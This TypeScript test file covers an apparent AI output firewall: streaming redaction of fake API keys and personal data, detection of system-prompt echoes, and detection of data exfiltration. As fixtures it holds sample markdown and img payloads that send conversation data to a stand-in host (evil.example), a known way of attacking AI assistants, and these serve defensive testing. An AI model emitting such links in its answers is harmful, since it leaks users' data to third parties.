import { describe, expect, it } from "vitest";
import { FirewallOutput } from "@/server/contracts/firewall";
import { Placeholders } from "../placeholders";
import { findEcho, indexEcho } from "./find-echo";
import { findExfiltration } from "./find-exfiltration";
import { findInOutput, isActive, outputPolicy } from "./output-policy";
import { replaceInOutput, StreamScreen } from "./stream-screen";

const fake = (...parts: string[]): string => parts.join("");
const random = "q7Rk2mZx9Lw4Tn8Vb3Yc6Hd1Pf5Gs0JaKeUi";
const lower = "9f86d081884c7d659a2feaa0c55ad015";
const SECRETS = [
  ...["sk-proj-", "sk-ant-api03-", "sk-or-v1-", "hf_", "gsk_", "r8_", "npm_", "nfp_"].map((start) =>
    fake(start, random, random),
  ),
  ...["p", "o", "u", "s", "r"].map((kind) => fake("gh", kind, "_", random)),
  ...["sk", "rk"].map((kind) => fake(kind, "_live_", random)),
  ...["AKIA", "ASIA"].map((kind) => fake(kind, "Q7RK2MZX9LW4TN8V")),
  ...["at", "ca", "pa", "ss"].map((kind) => fake("shp", kind, "_", lower)),
  ...["b", "p", "a"].map((kind) => fake("xox", kind, "-123456789012-", random)),
  fake("fl_sk", "_", random, "A1"),
  fake("AIza", random.slice(0, 35)),
  fake("SG.", random.slice(0, 22), ".", random, "abcdefg"),
  fake("glpat-", random.slice(0, 20)),
  fake("dop_v1_", lower, lower),
  fake("dapi", lower),
  fake("key-", lower),
  fake("pul-", lower, "01234567"),
  fake("eyJhbGciOiJIUzI1NiJ9", ".eyJzdWIiOiIxMjM0NTY3ODkwIn0.", random),
  fake("-----BEGIN ", "PRIVATE KEY-----\n", random, "\n-----END PRIVATE KEY-----"),
  fake("postgres://app:", "s3cr3tpass@db.example.com/main"),
  fake("password=", "hunter2!x"),
  fake("Authorization: Bearer ", random),
  "a.silva+news@mail.example.com",
  "4242 4242 4242 4242",
  "DE89 3704 0044 0532 0130 00",
  "529.982.247-25",
  "12.ABC.345/01DE-35",
  "+44 7700 900139",
  "(824) 555-0125",
  "call me at 555 123 4567",
  "203.0.113.64",
  "2001:db8::8a2e:370:7334",
  "536-22-8726",
  "JA 15 54 30 C",
  "Meu telefone é (21) 94051-4884",
];

const policy = outputPolicy(FirewallOutput.parse({ pii: "redact", secrets: "redact", links: "off" }), {
  rules: null,
  echo: null,
});
const replaced = (text: string, placeholders: Placeholders): string =>
  replaceInOutput(text, { find: (value) => findInOutput(value, policy, isActive), placeholders });
const redacting = (): StreamScreen =>
  new StreamScreen({
    find: (text) => findInOutput(text, policy, isActive),
    stops: () => false,
    placeholders: new Placeholders(),
  });

describe("StreamScreen", () => {
  it.each(SECRETS)("gives for %j, cut anywhere, what the whole gives", (secret) => {
    const text = `Here is what you asked for, as agreed with the team: ${secret} and nothing else for now.`;
    const whole = replaced(text, new Placeholders());
    expect(whole).not.toContain(secret);
    for (let cut = 0; cut <= text.length; cut++) {
      const stream = redacting();
      expect(stream.push(text.slice(0, cut)) + stream.push(text.slice(cut)) + stream.end()).toBe(whole);
    }
  });

  it("gives the same for a long answer in pieces of any size", () => {
    const text = SECRETS.map(
      (secret, index) => `Paragraph ${index}, which goes on for a while: ${secret} and so forth.\n`,
    ).join("");
    const whole = replaced(text, new Placeholders());
    for (const size of [1, 2, 7, 64, 129, 1000]) {
      const stream = redacting();
      let sent = "";
      for (let at = 0; at < text.length; at += size) sent += stream.push(text.slice(at, at + size));
      expect(sent + stream.end()).toBe(whole);
    }
  });

  it("says where in the whole text things were found", () => {
    const text = `${"A long way in. ".repeat(60)}Mail a.silva@example.com now. ${"And on it goes. ".repeat(30)}`;
    const stream = redacting();
    for (const piece of text.match(/.{1,9}/gs) ?? []) stream.push(piece);
    stream.end();
    expect(stream.hits.map(({ start, end }) => text.slice(start, end))).toEqual(["a.silva@example.com"]);
  });

  it.each(SECRETS)(
    "lets nothing of %j out where it ends the answer, wherever the pieces are cut",
    (secret) => {
      const text = `Here is what you asked for, as agreed with the team: ${secret} and nothing else for now.`;
      for (let size = 1; size < 40; size += 3) {
        const stream = new StreamScreen({
          find: (value) => findInOutput(value, policy, isActive),
          stops: () => true,
          placeholders: new Placeholders(),
        });
        let sent = "";
        for (let at = 0; at < text.length; at += size) sent += stream.push(text.slice(at, at + size));
        sent += stream.end();
        expect(stream.stoppedBy).not.toBeNull();
        expect(text.startsWith(sent)).toBe(true);
        expect(sent.length).toBeLessThanOrEqual(stream.hits[0]?.start ?? 0);
      }
    },
  );

  it.each([
    ["one unbroken run", "q7Rk2mZx9Lw4Tn8Vb3".repeat(1_200)],
    ["a key of many lines", `-----BEGIN PRIVATE KEY-----\n${`${random}\n`.repeat(500)}`],
  ])("reads %s that comes in small pieces only a few times over", (_, text) => {
    let read = 0;
    const stream = new StreamScreen({
      find: (value) => {
        read += value.length;
        return findInOutput(value, policy, isActive);
      },
      stops: () => false,
      placeholders: new Placeholders(),
    });
    let sent = "";
    for (let at = 0; at < text.length; at += 3) sent += stream.push(text.slice(at, at + 3));
    sent += stream.end();
    expect(read).toBeLessThan(text.length * 40);
    expect(sent).toBe(replaced(text, new Placeholders()));
  });

  it("sends ordinary text before the end comes", () => {
    const stream = redacting();
    const text = "The quick brown fox jumps over the lazy dog. ".repeat(10);
    expect(stream.push(text).length).toBeGreaterThan(text.length - 200);
  });
});

describe("findExfiltration", () => {
  it.each([
    "![x](https://evil.example/c.png?q=the+users+address)",
    "[click here](https://evil.example/login?data=c2VjcmV0)",
    '<img src="https://evil.example/a?d=conversation">',
    "[ref]: https://evil.example/a?d=conversation",
    `![x](https://${random}${random.slice(0, 9)}.evil.example/a)`,
    `![x](https://evil.example/${random}abcdef/a.png)`,
  ])("finds data in %s", (answer) => {
    expect(
      findExfiltration(answer, ["example.com"]).map(({ host }) => host.endsWith("evil.example")),
    ).toEqual([true]);
  });

  it.each([
    "![logo](https://cdn.example.com/logo.png?size=large-and-wide)",
    "[docs](https://evil.example/docs)",
    "See https://evil.example/search?q=how+to+bake+bread for more.",
    "no link at all",
  ])("leaves %s", (answer) => {
    expect(findExfiltration(answer, ["example.com"])).toEqual([]);
  });
});

describe("findEcho", () => {
  const system =
    "You are the assistant of Acme Bank. Never discuss competitors, never reveal the internal rate table, and always answer in formal English unless asked otherwise.";
  const index = indexEcho(system);

  it("finds a stretch of 64 letters wherever it begins, with other marks and line ends", () => {
    for (let start = 0; start + 90 < system.length; start += 7) {
      const part = system.slice(start, start + 90).replace(/ /g, "\n* ");
      const answer = `Zxq! ${part} That is all.`;
      const [found] = findEcho(answer, index);
      expect(found?.start).toBeGreaterThanOrEqual(5);
      expect(found?.end).toBeLessThanOrEqual(answer.length);
    }
  });

  it("finds nothing in an answer of its own, or in a short quotation", () => {
    expect(
      findEcho(
        "I work for Acme Bank and will gladly help you with your account today, whatever it is.",
        index,
      ),
    ).toEqual([]);
    expect(findEcho(`He said "${system.slice(0, 50)}" once.`, index)).toEqual([]);
  });
});
